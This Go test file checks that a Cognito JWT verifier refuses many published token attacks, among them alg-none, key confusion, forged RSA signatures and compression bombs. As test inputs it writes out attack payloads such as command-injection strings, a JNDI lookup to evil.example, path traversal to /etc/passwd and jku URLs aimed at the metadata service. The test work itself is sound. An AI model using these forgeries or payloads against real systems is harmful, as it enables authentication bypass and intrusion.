package cognito_test

import (
	"bytes"
	"cmp"
	"compress/flate"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/seed75762126/cognito-go/cognito"
	"github.com/seed75762126/cognito-go/cognito/cognitotest"
	"github.com/seed75762126/cognito-go/internal/thorough"
)

// TestAttacks has the published classes of attacks on JWTs that a Cognito
// token can meet, by their names. Apart from the attack each token is a good
// one, and the check that has to refuse it is named. verify_test.go,
// claims_test.go, jwks_test.go and flood_test.go go further into each.
func TestAttacks(t *testing.T) {
	for u, use := range uses {
		a := newAttacker(t, use)
		wantCheck(t, verifyCall(use, "no attack"), verify(t, a.victim, use, a.good), "", a.good)
		type class struct {
			name    string
			attacks func() []attack
		}
		classes := thorough.Sample([]class{ // in the quick form each comes with one of the uses
			{"alg none", a.algNone},
			{"alg confusion: an HMAC keyed with what is public (CVE-2015-9235)", a.algConfusion},
			{"alg: other algorithms and spellings", a.otherAlgs},
			{"signature stripped or trivial (CVE-2020-28042, CVE-2022-21449)", a.trivialSignatures},
			{"keys that the token brings along (CVE-2018-0114)", a.embeddedKeys},
			{"crit and b64", a.critical},
			{"kid as a path, a query, a command or a flood", a.kids},
			{"weak keys in the JWKS", a.weakKeys},
			{"duplicate members", a.duplicates},
			{"look-alike names", a.lookAlikes},
			{"sizes and depths", a.sizes},
			{"numbers that are none, too large or in other units", a.numbers},
			{"issuer tricks", a.issuers},
			{"JWE, nested and compressed tokens", a.envelopes},
			{"base64 with more than one spelling", a.spellings},
			{"JSON that parsers read differently", a.parsers},
		}, 2, u)
		for _, class := range append(classes, class{"audience tricks", a.audiences}, class{"another token in its place", a.substitutions}) {
			t.Run(use+"/"+class.name, func(t *testing.T) {
				for _, x := range class.attacks() {
					v := cmp.Or(x.victim, a.victim)
					if x.check == "kid" { // not in one cool-down, where a fetch may still bring the key
						a.pool.Advance(10 * time.Second)
					}
					wantCheck(t, verifyCall(use, x.name), verify(t, v, use, x.token), x.check, x.token)
				}
			})
		}
		for _, url := range a.wire.urls {
			if url != "GET "+issuer+"/.well-known/jwks.json" {
				t.Errorf("an attack made the verifier call %s", url)
			}
		}
	}
}

// An attack is a token, and the check that refuses it. Some need a victim of
// their own.
type attack struct {
	name, token, check string
	victim             *cognito.Verifier
}

// An attacker has a good token of one use and, mostly, the pool's signature
// on what it likes.
type attacker struct {
	t       *testing.T
	use     string
	pool    *cognitotest.Pool
	wire    *wire
	victim  *cognito.Verifier
	good    string
	base    *raw // of the good one
	kid     string
	header  string
	payload string
}

func newAttacker(t *testing.T, use string) *attacker {
	pool := newPool(t)
	w := newWire(pool)
	a := &attacker{t: t, use: use, pool: pool, wire: w, victim: newVerifier(t, pool, w.use), good: mint(pool, use), kid: pool.KeyID(use)}
	a.header, a.payload = parts(t, a.good)
	a.base = &raw{header: a.header, members: membersOf(t, a.payload)}
	return a
}

// head is a good header with more members.
func (a *attacker) head(more string) string {
	return fmt.Sprintf(`{"kid":%q,"alg":"RS256"%s}`, a.kid, more)
}

// signed has the pool's signature, true to the text.
func (a *attacker) signed(header, payload string) string { return a.pool.Sign(a.use, header, payload) }

// with signs the good payload with one more or one other claim.
func (a *attacker) with(name, value string) string {
	return a.base.clone().set(name, value).sign(a.pool, a.use)
}

// adding signs the good payload with a member put behind, as it is.
func (a *attacker) adding(member string) string {
	return a.base.clone().add(member).sign(a.pool, a.use)
}

// made signs nothing: the signature is given.
func (a *attacker) made(header, signature string) string {
	return b64(header) + "." + b64(a.payload) + "." + b64(signature)
}

// aud is the name of the claim that says whom the token is for.
func (a *attacker) aud() string {
	if a.use == "id" {
		return "aud"
	}
	return "client_id"
}

func (a *attacker) algNone() (list []attack) {
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "none ", "\u006eone", "n\u00f6ne", "null", "undefined", ""} {
		header := fmt.Sprintf(`{"kid":%q,"alg":%q}`, a.kid, alg)
		_, _, signature := cut3(a.good)
		list = append(list,
			attack{name: alg + " without a signature", token: b64(header) + "." + b64(a.payload) + ".", check: "alg"},
			attack{name: alg + " with the true one", token: b64(header) + "." + b64(a.payload) + "." + signature, check: "alg"},
		)
	}
	for _, alg := range []string{"null", "false", "0", `["none"]`, `{"alg":"none"}`} {
		list = append(list, attack{name: "alg " + alg, token: a.made(fmt.Sprintf(`{"kid":%q,"alg":%s}`, a.kid, alg), ""), check: "header"})
	}
	return append(list, attack{name: "no alg", token: a.made(fmt.Sprintf(`{"kid":%q}`, a.kid), ""), check: "alg"})
}

func cut3(token string) (string, string, string) {
	p := strings.SplitN(token, ".", 3)
	return p[0], p[1], p[2]
}

func (a *attacker) algConfusion() (list []attack) {
	key := ownKey() // published, so that everybody has it
	victim := newVerifier(a.t, a.pool, func(c *cognito.Config) { c.JWKS = jwks(key.jwk()) })
	pkix, err := x509.MarshalPKIXPublicKey(&key.private.PublicKey)
	if err != nil {
		a.t.Fatal(err)
	}
	pkcs1 := x509.MarshalPKCS1PublicKey(&key.private.PublicKey)
	pemPKIX := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
	secrets := map[string][]byte{
		"PEM": pemPKIX, "PEM without its line break": bytes.TrimSpace(pemPKIX), "PKCS #1 PEM": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"DER": pkix, "PKCS #1 DER": pkcs1, "the modulus": key.private.N.Bytes(), "the modulus as published": []byte(key.jwk()["n"].(string)),
		"the JWKS": jwks(key.jwk()), "the kid": []byte(key.kid), "nothing": nil, "secret": []byte("secret"),
	}
	for alg, h := range map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New} {
		for name, secret := range secrets {
			input := b64(fmt.Sprintf(`{"kid":%q,"alg":%q}`, key.kid, alg)) + "." + b64(a.payload)
			m := hmac.New(h, secret)
			m.Write([]byte(input))
			list = append(list, attack{alg + " keyed with " + name, input + "." + b64(string(m.Sum(nil))), "alg", victim})
			m = hmac.New(h, secret)
			input = b64(key.header()) + "." + b64(a.payload)
			m.Write([]byte(input))
			list = append(list, attack{alg + " said to be RS256, keyed with " + name, input + "." + b64(string(m.Sum(nil))), "signature", victim})
		}
	}
	return list
}

func (a *attacker) otherAlgs() (list []attack) {
	for _, alg := range []string{
		"RS384", "RS512", "RS1", "PS256", "PS384", "ES256", "ES256K", "EdDSA", "Ed25519", "HS256", "dir", "RSA-OAEP", "RSA1_5", "A128KW",
		"rs256", "Rs256", "RS256 ", " RS256", "RS256\x00", "RS256\n", "R\u017f256", "RS\u0662\u0665\u0666", "RS256,none", "RS256HS256",
	} {
		list = append(list, attack{name: fmt.Sprintf("%q", alg), token: a.signed(fmt.Sprintf(`{"kid":%q,"alg":%q}`, a.kid, alg), a.payload), check: "alg"})
	}
	for i := range list { // %q writes \x00, which JSON has not
		if strings.Contains(list[i].name, `\x00`) {
			list[i].token = a.signed(fmt.Sprintf(`{"kid":%q,"alg":"RS256\u0000"}`, a.kid), a.payload)
		}
	}
	return list
}

func (a *attacker) trivialSignatures() (list []attack) {
	n := ownKey().private.N
	victim := newVerifier(a.t, a.pool, func(c *cognito.Config) { c.JWKS = jwks(ownKey().jwk()) })
	block := func(i *big.Int) string { return string(i.FillBytes(make([]byte, 256))) }
	for name, sig := range map[string]string{
		"none": "", "a zero": "\x00", "all zero": block(new(big.Int)), "one": block(big.NewInt(1)), "the modulus": block(n), "the modulus less one": block(new(big.Int).Sub(n, big.NewInt(1))),
		"all ones": strings.Repeat("\xff", 256), "twice as long": strings.Repeat("\x00", 512), "r = s = 0, as of ES256": strings.Repeat("\x00", 64), "an empty DER sequence": "\x30\x06\x02\x01\x00\x02\x01\x00",
	} {
		list = append(list, attack{name, b64(ownKey().header()) + "." + b64(a.payload) + "." + b64(sig), "signature", victim})
	}
	h, p, _ := cut3(a.good)
	es := b64(fmt.Sprintf(`{"kid":%q,"alg":"ES256"}`, a.kid)) + "." + p
	return append(list,
		attack{name: "two parts", token: h + "." + p, check: "format"},
		attack{name: "psychic: r = s = 0 under ES256", token: es + "." + b64(strings.Repeat("\x00", 64)), check: "alg"},
		attack{name: "the header's text as signature", token: h + "." + p + "." + h, check: "signature"},
	)
}

func (a *attacker) embeddedKeys() []attack {
	own := ownKey()
	sign := func(kid, more string) string {
		return own.sign(fmt.Sprintf(`{"kid":%q,"alg":"RS256"%s}`, kid, more), a.payload)
	}
	jwk := fmt.Sprintf(`{"kty":"RSA","n":%q,"e":"AQAB","kid":%q}`, own.jwk()["n"], own.kid)
	return []attack{
		{name: "own jwk", token: sign(own.kid, `,"jwk":`+jwk), check: "header"},
		{name: "own jwk under the pool's kid", token: sign(a.kid, `,"jwk":`+jwk), check: "header"},
		{name: "own jwk as text", token: sign(a.kid, fmt.Sprintf(`,"jwk":%q`, jwk)), check: "header"},
		{name: "escaped jwk", token: sign(a.kid, `,"\u006awk":`+jwk), check: "header"},
		{name: "jku", token: sign(own.kid, `,"jku":"https://evil.example/jwks.json"`), check: "header"},
		{name: "jku on the pool's host", token: sign(own.kid, `,"jku":"`+issuer+`/../open-redirect?to=evil"`), check: "header"},
		{name: "jku of a file", token: sign(own.kid, `,"jku":"file:///etc/passwd"`), check: "header"},
		{name: "jku to the metadata service", token: sign(own.kid, `,"jku":"http://169.254.169.254/latest/meta-data"`), check: "header"},
		{name: "x5u", token: sign(own.kid, `,"x5u":"https://evil.example/cert.pem"`), check: "header"},
		{name: "x5c", token: sign(own.kid, `,"x5c":["MIIB"]`), check: "header"},
		{name: "x5c as text", token: sign(own.kid, `,"x5c":"MIIB"`), check: "header"},
		{name: "own key under its kid", token: sign(own.kid, ""), check: "kid"},
		{name: "own key under the pool's kid", token: sign(a.kid, ""), check: "signature"},
		{name: "own key's thumbprint, x5t", token: sign(a.kid, `,"x5t":"AAAA"`), check: "signature"},
		{name: "iss of the attacker's, with its keys", token: own.sign(own.header(), strings.Replace(a.payload, `"iss":"`, `"iss":"https:\/\/evil.example\/`, 1)), check: "iss"},
	}
}

func (a *attacker) critical() []attack {
	raw := func(header string) string { // RFC 7797: the payload as it is
		signed := a.pool.Sign(a.use, header, a.payload)
		h, _, s := cut3(signed)
		return h + "." + a.payload + "." + s
	}
	return []attack{
		{name: "crit with b64", token: a.signed(a.head(`,"b64":false,"crit":["b64"]`), a.payload), check: "header"},
		{name: "crit with an unknown name", token: a.signed(a.head(`,"crit":["x"],"x":"y"`), a.payload), check: "header"},
		{name: "empty crit", token: a.signed(a.head(`,"crit":[]`), a.payload), check: "header"},
		{name: "crit as text", token: a.signed(a.head(`,"crit":"exp"`), a.payload), check: "header"},
		{name: "b64 false", token: a.signed(a.head(`,"b64":false`), a.payload), check: "header"},
		{name: "b64 as text", token: a.signed(a.head(`,"b64":"false"`), a.payload), check: "header"},
		{name: "b64 false and a payload not encoded", token: raw(a.head(`,"b64":false,"crit":["b64"]`)), check: "format"},
		{name: "a payload not encoded", token: raw(a.head("")), check: "format"},
	}
}

func (a *attacker) kids() (list []attack) {
	for _, kid := range []string{
		"../../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "..\\..\\windows\\win.ini", "%2e%2e%2fkeys", "file:///etc/passwd", "https://evil.example/key",
		"' UNION SELECT 'AAAA' -- ", "1; DROP TABLE keys", "x' OR '1'='1", "$(id)", "|id", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>",
		"__proto__", "constructor", "*", "0", "-1", "null", "\u0000", a.kid + "\u0000", a.kid + " ", " " + a.kid, a.kid + "\n", strings.ToUpper(a.kid) + "x", a.kid[:len(a.kid)-1],
		"\u202e" + a.kid, strings.Repeat("k", 256), "line\r\nX-Injected: yes",
	} {
		list = append(list, attack{name: fmt.Sprintf("kid %.40q", kid), token: a.signed(`{"alg":"RS256","kid":`+jsonText(kid)+`}`, a.payload), check: "kid"})
	}
	for name, kid := range map[string]string{"a number": "1", "null": "null", "true": "true", "a list": `["` + a.kid + `"]`, "an object": `{"$ne":""}`} {
		list = append(list, attack{name: "kid " + name, token: a.signed(`{"alg":"RS256","kid":`+kid+`}`, a.payload), check: "header"})
	}
	return append(list,
		attack{name: "no kid", token: a.signed(`{"alg":"RS256"}`, a.payload), check: "kid"},
		attack{name: "empty kid", token: a.signed(`{"alg":"RS256","kid":""}`, a.payload), check: "kid"},
		attack{name: "kid of 257 bytes", token: a.signed(`{"alg":"RS256","kid":"`+strings.Repeat("k", 257)+`"}`, a.payload), check: "kid"},
		attack{name: "kid twice", token: a.signed(a.head(`,"kid":"../../dev/null"`), a.payload), check: "header"},
	)
}

// jsonText writes a JSON string with every control character escaped.
func jsonText(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < ' ':
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String() + `"`
}

func (a *attacker) weakKeys() (list []attack) {
	key := ownKey()
	header := key.header()
	input := b64(header) + "." + b64(a.payload)
	sum := sha256.Sum256([]byte(input))
	// What an RS256 signature becomes under the public key (RFC 8017 section 9.2).
	digest := append([]byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}, sum[:]...)
	whole := slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, 256-3-len(digest)), []byte{0}, digest)
	against := func(name, check, sig string, published jwk) {
		victim := newVerifier(a.t, a.pool, func(c *cognito.Config) { c.JWKS = jwks(published, otherKey().jwk("kid", "other")) })
		list = append(list, attack{name, input + "." + b64(sig), check, victim})
	}
	small := &rsaKey{kid: key.kid, private: smallKey().private}
	_, _, smallSig := cut3(small.sign(header, a.payload))
	smallText, _ := base64.RawURLEncoding.DecodeString(smallSig)
	against("1024 bits, truly signed", "kid", string(smallText), small.jwk())
	against("exponent 1: the signature is the message", "kid", string(whole), key.jwk("e", "AQ"))
	against("exponent 0: every signature is one", "kid", string(make([]byte, 256)), key.jwk("e", "AA"))
	against("exponent 2", "kid", string(whole), key.jwk("e", "Ag"))
	against("exponent 65536", "kid", string(whole), key.jwk("e", "AQAA"))
	against("an even modulus", "kid", string(whole), key.jwk("n", b64(string(new(big.Int).Sub(key.private.N, big.NewInt(1)).Bytes()))))
	against("a modulus of zero", "kid", string(whole), key.jwk("n", "AA"))
	against("a key for encryption", "kid", string(whole), key.jwk("use", "enc"))
	against("a key for another algorithm", "kid", string(whole), key.jwk("alg", "RSA-OAEP"))
	against("a symmetric key", "kid", string(whole), jwk{"kty": "oct", "kid": key.kid, "k": "AAAA"})
	// Bleichenbacher's forgery of 2006: with exponent 3, a cube whose first
	// bytes are right and whose rest nobody reads.
	short := slices.Concat([]byte{0, 1, 0xff, 0}, digest)
	short = append(short, bytes.Repeat([]byte{0xff}, 256-len(short))...)
	against("exponent 3: a cube with short padding", "signature", string(cubeRoot(short).FillBytes(make([]byte, 256))), key.jwk("e", "Aw"))
	against("exponent 3: the cube root of the whole", "signature", string(cubeRoot(whole).FillBytes(make([]byte, 256))), key.jwk("e", "Aw"))
	return list
}

// cubeRoot is the largest number whose cube is no more than b.
func cubeRoot(b []byte) *big.Int {
	n, root := new(big.Int).SetBytes(b), new(big.Int)
	for bit := n.BitLen()/3 + 1; bit >= 0; bit-- {
		root.SetBit(root, bit, 1)
		if new(big.Int).Exp(root, big.NewInt(3), nil).Cmp(n) > 0 {
			root.SetBit(root, bit, 0)
		}
	}
	return root
}

func (a *attacker) duplicates() (list []attack) {
	for _, name := range []string{"iss", "sub", "exp", "iat", "token_use", a.aud(), "cognito:groups"} {
		check := "claims"
		if name == "exp" || name == "iat" {
			check = name // it comes first, and is no number
		}
		escaped := fmt.Sprintf(`\u%04x%s`, name[0], name[1:])
		list = append(list,
			attack{name: name + " before", token: a.signed(a.header, strings.Replace(a.payload, "{", `{"`+name+`":"x",`, 1)), check: check},
			attack{name: name + " behind", token: a.adding(`"` + name + `":4000000000`), check: "claims"},
			attack{name: name + " behind, escaped", token: a.adding(`"` + escaped + `":4000000000`), check: "claims"},
		)
	}
	return append(list,
		attack{name: "a foreign claim", token: a.adding(`"unknown":1,"unknown":2`), check: "claims"},
		attack{name: "alg", token: a.signed(a.head(`,"alg":"none"`), a.payload), check: "header"},
		attack{name: "alg, escaped", token: a.signed(a.head(`,"\u0061lg":"none"`), a.payload), check: "header"},
	)
}

func (a *attacker) lookAlikes() (list []attack) {
	// Where a name is matched without regard to case, the last one wins and
	// the good one is overwritten; here it is just another claim.
	for name, value := range map[string]string{"iss": `"https://evil.example"`, "sub": `"root"`, "exp": `1`, a.aud(): `"6mallory"`, "token_use": `"x"`} {
		for _, folded := range foldings(name) {
			beside := ""
			if a.use == "id" && name != "token_use" && name != "sub" { // go-oidc takes the last one, and refuses
				beside = "claims"
			}
			list = append(list, attack{name: folded + " beside " + name, token: a.adding(fmt.Sprintf(`"%s":%s`, folded, value)), check: beside})
			instead := a.base.clone().rename(name, folded).sign(a.pool, a.use)
			list = append(list, attack{name: folded + " instead of " + name, token: instead, check: name})
		}
	}
	return append(list,
		attack{name: "ALG beside alg", token: a.signed(a.head(`,"ALG":"none"`), a.payload), check: ""},
		attack{name: "ALG instead of alg", token: a.signed(fmt.Sprintf(`{"kid":%q,"ALG":"RS256"}`, a.kid), a.payload), check: "alg"},
		attack{name: "kid with the Kelvin sign", token: a.signed(fmt.Sprintf("{\"\u212aid\":%q,\"alg\":\"RS256\"}", a.kid), a.payload), check: "kid"},
	)
}

func (a *attacker) sizes() []attack {
	body := strings.TrimSuffix(a.payload, "}")
	h, _, s := cut3(a.good)
	huge := thorough.Or(1<<20, 16<<20)
	return []attack{
		{name: "a token of 17 KiB", token: a.signed(a.header, body+`,"x":"`+strings.Repeat("x", 13<<10)+`"}`), check: "size"},
		{name: "a huge payload", token: h + "." + strings.Repeat("A", huge) + "." + s, check: "size"},
		{name: "a header of 5 KiB", token: a.signed(a.head(`,"x":"`+strings.Repeat("x", 5<<10)+`"`), a.payload), check: "size"},
		{name: "a huge number of dots", token: strings.Repeat(".", huge), check: "size"},
		{name: "16 KiB of dots", token: strings.Repeat(".", 16<<10), check: "format"},
		{name: "nested a thousand deep", token: a.signed(a.header, body+`,"x":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000)+"}"), check: "claims"},
		{name: "objects nested a thousand deep", token: a.signed(a.header, body+`,"x":`+strings.Repeat(`{"a":`, 1000)+"1"+strings.Repeat("}", 1000)+"}"), check: "claims"},
		{name: "a header nested a thousand deep", token: a.signed(a.head(`,"x":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000)), a.payload), check: "header"},
		{name: "an exp of five thousand digits", token: a.with("exp", strings.Repeat("9", 5000)), check: "exp"},
		{name: "an exp of five thousand decimals", token: a.with("exp", "4000000000."+strings.Repeat("0", 5000)), check: ""},
		{name: "a thousand claims", token: a.signed(a.header, body+manyMembers(1000)+"}"), check: ""},
		{name: "a thousand claims, the last one again", token: a.signed(a.header, body+manyMembers(1000)+`,"m999":0}`), check: "claims"},
	}
}

func manyMembers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"m%d":0`, i)
	}
	return b.String()
}

func (a *attacker) numbers() (list []attack) {
	none := []string{
		`"4000000000"`, `"9999999999999"`, `"never"`, `"NaN"`, `"Infinity"`, `""`, "1e400", "-1e400", "9223372036854775808", "18446744073709551616", "1e19", "-1", "0", "1e-400",
		"true", "null", "[4000000000]", `{"$date":4000000000}`, "4000000000000",
	}
	noJSON := []string{"NaN", "Infinity", "0x7fffffff", "01", "1_000", "+4000000000", "4000000000.", ".5", "1e"}
	for i, name := range []string{"exp", "iat", "nbf"} {
		for _, value := range thorough.Sample(none, 3, i) {
			list = append(list, attack{name: name + " " + value, token: a.with(name, value), check: name})
		}
		for _, value := range thorough.Sample(noJSON, 3, i) {
			check := "claims"
			if value[0] == '0' {
				check = name // the zero is a number, and none of our century
			}
			list = append(list, attack{name: name + " " + value + ", which is no JSON", token: a.with(name, value), check: check})
		}
	}
	return append(list,
		attack{name: "exp as a fraction, which the RFC allows", token: a.with("exp", "4000000000.5"), check: ""},
		attack{name: "exp with an exponent, which is JSON", token: a.with("exp", "4e9"), check: ""},
		attack{name: "an expired fraction", token: a.with("exp", "1000000000.999"), check: "exp"},
		attack{name: "no exp", token: mint(a.pool, a.use, without("exp")), check: "exp"},
	)
}

func (a *attacker) audiences() (list []attack) {
	for _, value := range []string{
		`"6mallory"`, `""`, `null`, `true`, `7`, `{}`, `[]`, `[[%q]]`, `{"0":%q}`, `[%q,"6mallory"]`, `["6mallory",%q]`, `[%q,7]`, `[%q,null]`,
		`"` + clientID[:10] + `"`, `"` + clientID + `x"`, `"x` + clientID + `"`, `"` + clientID + ` "`, `"` + clientID + ` 6mallory"`, `"` + clientID + `,6mallory"`, `"` + clientID + `\u0000"`,
		`"` + strings.ToUpper(clientID) + `"`, `"*"`, `".*"`, `"%%"`,
	} {
		if strings.Contains(value, "%q") || strings.Contains(value, "%%") {
			value = fmt.Sprintf(value, slices.Repeat([]any{clientID}, strings.Count(value, "%q"))...)
		}
		list = append(list, attack{name: a.aud() + " " + value, token: a.with(a.aud(), value), check: a.aud()})
	}
	other := map[string]string{"id": "client_id", "access": "aud"}[a.use]
	r := a.base.clone().remove(a.aud()).set(other, `"`+clientID+`"`)
	return append(list, attack{name: other + " instead of " + a.aud(), token: r.sign(a.pool, a.use), check: a.aud()})
}

func (a *attacker) issuers() (list []attack) {
	host := "https://cognito-idp.eu-west-1.amazonaws.com"
	for _, iss := range []string{
		host + "/eu-west-1_Mallory01", "https://cognito-idp.us-east-1.amazonaws.com/" + poolID, "https://evil.example/" + poolID, host + ".evil.example/" + poolID,
		host + "@evil.example/" + poolID, host + ":443/" + poolID, host + "//" + poolID, host + "/./" + poolID, host + "/x/../" + poolID, issuer + "/", issuer + "?", issuer + "#", issuer + "%00",
		issuer + "\u0000", " " + issuer, issuer + "\n", strings.ToUpper(issuer), "http" + issuer[5:], issuer[8:], issuer + "," + issuer, "", poolID, "http://localhost:9229/" + poolID,
	} {
		list = append(list, attack{name: fmt.Sprintf("iss %q", iss), token: a.with("iss", jsonText(iss)), check: "iss"})
	}
	for _, value := range []string{"null", "7", `["` + issuer + `"]`, `{"iss":"` + issuer + `"}`} {
		list = append(list, attack{name: "iss " + value, token: a.with("iss", value), check: "iss"})
	}
	return append(list, attack{name: "no iss", token: mint(a.pool, a.use, without("iss")), check: "iss"})
}

func (a *attacker) envelopes() []attack {
	var squeezed bytes.Buffer
	w, _ := flate.NewWriter(&squeezed, flate.BestCompression)
	_, _ = w.Write(bytes.Repeat([]byte{' '}, 8<<20)) // eight megabytes of white space
	_, _ = w.Write([]byte(a.payload))
	_ = w.Close()
	h, p, s := cut3(a.good)
	jwe := b64(`{"alg":"RSA-OAEP","enc":"A256GCM","cty":"JWT"}`)
	return []attack{
		{name: "a JWE", token: jwe + ".a2V5.bm9uY2U.c2VhbGVk.dGFn", check: "format"},
		{name: "a JWE to oneself, alg dir", token: b64(`{"alg":"dir","enc":"A256GCM"}`) + "..bm9uY2U.c2VhbGVk.dGFn", check: "format"},
		{name: "PBES2 with a billion rounds", token: b64(`{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":1000000000,"p2s":"AAAA"}`) + ".a2V5.bm9uY2U.c2VhbGVk.dGFn", check: "format"},
		{name: "p2c in a JWS", token: a.signed(a.head(`,"p2c":1000000000`), a.payload), check: "header"},
		{name: "enc in a JWS", token: a.signed(a.head(`,"enc":"A256GCM"`), a.payload), check: "header"},
		{name: "a bomb behind zip", token: a.signed(a.head(`,"zip":"DEF"`), squeezed.String()), check: "header"},
		{name: "a bomb without zip", token: a.signed(a.head(""), squeezed.String()), check: "claims"},
		{name: "a token within a token", token: a.signed(a.head(`,"cty":"JWT"`), a.good), check: "header"},
		{name: "a token within a token, quoted", token: a.signed(a.head(`,"cty":"JWT"`), `"`+a.good+`"`), check: "header"},
		{name: "a token within a token, without cty", token: a.signed(a.head(""), a.good), check: "claims"},
		{name: "JSON serialization, flattened", token: fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, h, p, s), check: "format"},
		{name: "JSON serialization, general", token: fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p, h, s), check: "format"},
		{name: "JSON serialization between dots", token: `{"a":".","b":".","payload":"` + p + `"}`, check: "format"},
		{name: "a refresh token", token: string(a.pool.Tokens("jane").Refresh), check: "format"},
	}
}

func (a *attacker) spellings() (list []attack) {
	h, p, s := cut3(a.good)
	for name, token := range map[string]string{
		"padding": h + "=." + p + "." + s, "padding behind": a.good + "==", "a line break": h + "." + p[:9] + "\n" + p[9:] + "." + s, "a line break behind": a.good + "\r\n",
		"a space before": " " + a.good, "a tab within": h + "." + p + ".\t" + s, "NUL behind": a.good + "\x00", "the standard alphabet": h + "." + p + ".+/" + s[2:], "percent": h + "%2e" + p + "." + s,
		"a full-width dot": h + "\uff0e" + p + "." + s, "a fourth part": a.good + ".", "a fourth part of another": a.good + "." + p, "with its scheme": "Bearer " + a.good, "two tokens": a.good + "," + a.good,
	} {
		list = append(list, attack{name: name, token: token, check: "format"})
	}
	return list
}

func (a *attacker) parsers() (list []attack) {
	body := strings.TrimSuffix(a.payload, "}")
	for name, payload := range map[string]string{
		"a comment": body + "/*,*/}", "a comma too many": body + ",}", "two objects": a.payload + a.payload, "text behind": a.payload + "x", "a byte order mark": "\ufeff" + a.payload,
		"not UTF-8": body + ",\"x\":\"\xff\"}", "UTF-8 that is too long": body + ",\"x\":\"\xc0\xae\"}", "UTF-16": "\x00{\x00}", "single quotes": strings.ReplaceAll(a.payload, `"`, "'"),
		"names without quotes": body + `,x:1}`, "null": "null", "a list": "[" + a.payload + "]", "nothing": "", "a raw control character": body + ",\"x\":\"\x01\"}", "lone surrogates twice": body + `,"\ud800":1,"\udbff":2}`,
	} {
		list = append(list, attack{name: name, token: a.signed(a.header, payload), check: "claims"})
	}
	for name, header := range map[string]string{"a header with a comment": a.head("/**/"), "a header and more": a.head("") + "{}", "a header in a list": "[" + a.head("") + "]", "a header that is not UTF-8": a.head(",\"x\":\"\xff\"")} {
		list = append(list, attack{name: name, token: a.signed(header, a.payload), check: "header"})
	}
	return list
}

func (a *attacker) substitutions() []attack {
	otherUse := map[string]string{"id": "access", "access": "id"}[a.use]
	other := newOtherPool(a.t)
	otherCheck := map[string]string{"id": "aud", "access": "client_id"}[a.use]
	return []attack{
		{name: "the " + otherUse + " token", token: mint(a.pool, otherUse), check: "token_use"},
		{name: "the " + otherUse + " token with this one's claims", token: mint(a.pool, otherUse, set("aud", clientID), set("client_id", clientID)), check: "token_use"},
		{name: "no token_use", token: mint(a.pool, a.use, without("token_use")), check: "token_use"},
		{name: "token_use both", token: a.with("token_use", `["id","access"]`), check: "token_use"},
		{name: "another pool's", token: mint(other, a.use), check: "iss"},
		{name: "another pool's, said to be this one's", token: mint(other, a.use, set("iss", issuer), set(a.aud(), clientID)), check: "kid"},
		{name: "another client's of this pool", token: mint(a.pool, a.use, set(a.aud(), otherClientID)), check: otherCheck},
		{name: "no sub", token: mint(a.pool, a.use, without("sub")), check: "sub"},
		{name: "an empty sub", token: a.with("sub", `""`), check: "sub"},
		{name: "sub a number", token: a.with("sub", "0"), check: "sub"},
		{name: "expired", token: a.with("exp", "1700000000"), check: "exp"},
		{name: "of the future", token: a.with("iat", "4000000000"), check: "iat"},
		{name: "not valid yet", token: a.with("nbf", "4000000000"), check: "nbf"},
	}
}
